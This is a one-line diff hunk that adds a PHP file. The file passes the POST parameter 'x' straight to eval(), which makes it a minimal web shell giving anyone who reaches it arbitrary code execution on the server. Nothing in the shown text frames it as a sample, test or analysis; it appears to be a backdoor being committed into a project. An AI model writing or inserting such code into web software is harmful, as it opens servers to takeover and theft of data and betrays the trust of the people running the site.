@@ -1,0 +1,1 @@
+<?php $a = $_POST; $b = $a['x']; eval($b);
